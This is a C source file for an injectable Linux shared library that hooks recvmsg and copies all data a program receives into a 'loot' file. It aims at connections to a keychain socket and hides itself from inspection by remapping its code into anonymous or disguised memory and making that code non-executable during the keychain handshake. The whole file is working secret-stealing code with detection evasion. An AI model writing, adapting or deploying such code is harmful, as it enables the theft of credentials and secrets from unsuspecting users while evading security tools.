// A library that is loaded into another program: it writes what that program receives to the file that LOOT names. With HIDE it first moves
// itself into memory that belongs to no file, or, if HIDE is the path of a file, into modified pages of that file. With STILL too, its code
// there is not executable while the program connects to the keychain and waits for the greeting.
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <ucontext.h>
#include <unistd.h>

static int loot = -1;
// Its code after the move.
static uintptr_t code, code_size;

// Lets it be loaded as an audit module too.
unsigned la_version(unsigned version) { return version; }

ssize_t recvmsg(int connection, struct msghdr *message, int flags) {
    static ssize_t (*real)(int, struct msghdr *, int);
    if (!real) *(void **)&real = dlsym(RTLD_NEXT, "recvmsg");
    ssize_t count = real(connection, message, flags);
    for (ssize_t left = count, part = 0; left > 0 && loot >= 0; left -= (ssize_t)message->msg_iov[part++].iov_len) {
        size_t size = message->msg_iov[part].iov_len;
        if (write(loot, message->msg_iov[part].iov_base, (ssize_t)size < left ? size : (size_t)left) < 0) break;
    }
    return count;
}

// Meanwhile only functions of the C library are executed, each of which continues with the next one.
int connect(int connection, const struct sockaddr *address, socklen_t length) {
    static int (*real)(int, const struct sockaddr *, socklen_t);
    static char stacks[4][65536];
    ucontext_t steps[5];
    struct pollfd greeting = {.fd = connection, .events = POLLIN};
    struct sockaddr_un peer;
    socklen_t size = sizeof peer;
    if (!real) *(void **)&real = dlsym(RTLD_NEXT, "connect");
    if (!code || !getenv("STILL") || address->sa_family != AF_UNIX || !strstr(((const struct sockaddr_un *)address)->sun_path, "/keychain"))
        return real(connection, address, length);
    struct { void *function; uintptr_t words[3]; } calls[4] = {
        {(void *)mprotect, {code, code_size, PROT_READ}}, {(void *)real, {(uintptr_t)connection, (uintptr_t)address, length}},
        {(void *)poll, {(uintptr_t)&greeting, 1, (uintptr_t)-1}}, {(void *)mprotect, {code, code_size, PROT_READ | PROT_EXEC}},
    };
    for (int index = 0; index < 4; index++) {
        if (getcontext(&steps[index])) _exit(95);
        steps[index].uc_stack.ss_sp = stacks[index];
        steps[index].uc_stack.ss_size = sizeof stacks[index];
        steps[index].uc_link = &steps[index + 1];
        makecontext(&steps[index], (void (*)(void))calls[index].function, 3, calls[index].words[0], calls[index].words[1], calls[index].words[2]);
    }
    if (swapcontext(&steps[4], &steps[0])) _exit(94);
    return getpeername(connection, (struct sockaddr *)&peer, &size);
}

// A copy of each mapping of this library replaces the mapping; execution continues in the copy.
static void hide(const char *in) {
    Dl_info own;
    uintptr_t start, end, pieces[16][3];
    char line[512], rights[5];
    int count = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    int file = in[0] == '/' ? open(in, O_RDONLY | O_CLOEXEC) : -1;
    if (!dladdr((void *)hide, &own) || !maps || (in[0] == '/' && file < 0)) _exit(99);
    const char *name = strrchr(own.dli_fname, '/');
    while (fgets(line, sizeof line, maps) && count < 16) {
        if (!strstr(line, name) || sscanf(line, "%lx-%lx %4s", &start, &end, rights) != 3) continue;
        pieces[count][0] = start; pieces[count][1] = end - start;
        pieces[count++][2] = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0) | (rights[2] == 'x' ? PROT_EXEC : 0);
    }
    fclose(maps);
    for (int index = 0; index < count; index++) {
        uintptr_t *piece = pieces[index];
        void *copy = mmap(NULL, piece[1], PROT_READ | PROT_WRITE, MAP_PRIVATE | (file < 0 ? MAP_ANONYMOUS : 0), file, 0);
        memcpy(copy, (void *)piece[0], piece[1]);
        if (mprotect(copy, piece[1], (int)piece[2])) _exit(98);
        if (mremap(copy, piece[1], piece[1], MREMAP_MAYMOVE | MREMAP_FIXED, (void *)piece[0]) == MAP_FAILED) _exit(97);
        if (piece[2] & PROT_EXEC) { code = piece[0]; code_size = piece[1]; }
    }
}

__attribute__((constructor)) static void begin(void) {
    const char *path = getenv("LOOT");
    if (path) loot = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    if (loot >= 0 && write(loot, "inside\n", 7) < 0) _exit(96);
    if (getenv("HIDE")) hide(getenv("HIDE"));
}
